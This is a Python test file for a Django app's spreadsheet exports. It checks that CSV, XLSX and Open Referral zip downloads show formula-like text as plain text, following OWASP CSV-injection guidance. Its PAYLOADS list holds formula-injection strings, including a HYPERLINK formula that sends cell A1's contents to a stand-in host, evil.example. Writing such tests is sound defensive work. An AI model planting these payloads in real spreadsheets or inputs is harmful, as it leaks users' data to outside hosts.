"""No spreadsheet we hand out can run a formula someone typed (OWASP CSV injection).

Every CSV and XLSX download, and the Open Referral CSV data package, goes
through peerspace/spreadsheets.py: in a CSV, text that starts like a formula
gets a leading apostrophe; in an XLSX it is a string cell marked as text.
"""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from attendance.models import Activity, Person, Session, Visit
from peerspace.spreadsheets import FORMULA_START
from signposting import hsds
from signposting.models import Category, Service

PAYLOADS = [
    '==HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,1)",
    "@SUM(1)",
    "-1+2",
    "-1",
    "\t=1+1",
    "\r=1+1",
]
QUARTER = {"period": "custom", "start": "2025-04-01", "end": "2025-06-30"}


@pytest.fixture
def typed(org, site):
    """People, activities and services named with what a spreadsheet would run."""
    session = Session.objects.create(site=site, date=dt.date(2025, 5, 6))
    Category.objects.seed(org)
    for text in PAYLOADS:
        person = Person.objects.create(
            organisation=org, known_as=text, full_name=text, address=text
        )
        activity = Activity.objects.create(organisation=org, name=text)
        Visit.objects.create(person=person, session=session, activity=activity)
        Service.objects.create(organisation=org, name=text, description=text)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_is_safe(text: str, columns_with_payloads: int = 1):
    cells = csv_cells(text)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for payload in PAYLOADS:
        assert cells.count("'" + payload) >= columns_with_payloads, payload


def assert_xlsx_is_safe(content: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)
    for payload in PAYLOADS:
        # XML reads a lone carriage return back as a new line.
        found = [c for c in texts if c.value in (payload, payload.replace("\r", "\n"))]
        assert found, payload
        assert all(c.quotePrefix for c in found), payload


def downloads(client):
    """Every spreadsheet download, as (name, format, content)."""
    for kind in ("people", "visits"):
        for fmt in ("csv", "xlsx"):
            url = reverse(f"attendance:export_{kind}", args=[fmt])
            yield kind, fmt, client.get(url).content
    for fmt in ("csv", "xlsx"):
        url = reverse("reports:table", args=["activities", fmt])
        params = {"sections": ["activities"], **QUARTER}
        yield "report table", fmt, client.get(url, params).content
        url = reverse("signposting:export_table")
        yield "services", fmt, client.get(url, {"format": fmt}).content


def test_every_spreadsheet_download_shows_formulae_as_text(alice_client, typed):
    seen = []
    for name, fmt, content in downloads(alice_client):
        seen.append((name, fmt))
        if fmt == "csv":
            assert_csv_is_safe(content.decode("utf-8-sig"))
        else:
            assert_xlsx_is_safe(content)
    assert len(seen) == 8


def test_the_open_referral_csv_package_shows_formulae_as_text(alice_client, typed):
    response = alice_client.get(reverse("signposting:export_hsds"), {"format": "zip"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as zf:
        services_csv = zf.read("services.csv").decode()
    assert_csv_is_safe(services_csv, columns_with_payloads=2)  # name, description


def test_what_was_typed_comes_back_unchanged_from_our_own_files(
    alice_client, org, typed
):
    package = alice_client.get(reverse("signposting:export_hsds"), {"format": "zip"})
    names = sorted(s["name"] for s in hsds.read_bytes(package.content, "x.zip"))
    assert names == sorted(PAYLOADS)

    # The directory's spreadsheet, edited nowhere and imported again: no change.
    for fmt in ("csv", "xlsx"):
        if fmt == "xlsx":
            # XML itself reads a lone carriage return back as a new line.
            Service.objects.filter(name__startswith="\r").delete()
        exported = alice_client.get(
            reverse("signposting:export_table"), {"format": fmt}
        )
        upload = SimpleUploadedFile(f"services.{fmt}", exported.content)
        response = alice_client.post(
            reverse("signposting:import_table"), {"file": upload}
        )
        assert response.status_code == 200, response.context.get("errors")
        totals = response.context["totals"]
        assert (totals["new"], totals["update"]) == (0, 0), fmt
    names = sorted(Service.objects.values_list("name", flat=True))
    assert names == sorted(p for p in PAYLOADS if p[0] != "\r")


def test_every_table_at_once_shows_formulae_as_text(alice_client, typed):
    params = {"sections": ["activities", "headlines"], **QUARTER}
    book = alice_client.get(reverse("reports:tables", args=["xlsx"]), params)
    workbook = openpyxl.load_workbook(io.BytesIO(book.content))
    assert workbook.sheetnames == [
        "Headline figures",
        "Activities",
        "Giving as well as receiving",
    ]
    workbook.active = workbook.sheetnames.index("Activities")
    out = io.BytesIO()
    workbook.save(out)
    assert_xlsx_is_safe(out.getvalue())
    files = alice_client.get(reverse("reports:tables", args=["zip"]), params)
    with zipfile.ZipFile(io.BytesIO(files.content)) as zf:
        assert zf.namelist() == ["headlines.csv", "activities.csv", "giving.csv"]
        assert_csv_is_safe(zf.read("activities.csv").decode("utf-8-sig"))
